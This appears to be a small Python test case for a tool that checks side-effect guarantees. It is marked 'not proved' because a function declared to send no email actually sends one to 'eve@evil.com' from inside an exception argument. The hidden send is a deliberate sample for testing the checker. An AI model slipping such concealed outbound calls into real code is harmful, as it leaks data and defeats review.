# not proved: what is raised is evaluated first
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, is_allowed


def told():
    send_email("eve@evil.com", "x")
    return "m"


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    if is_allowed("x"):
        raise ValueError(told())
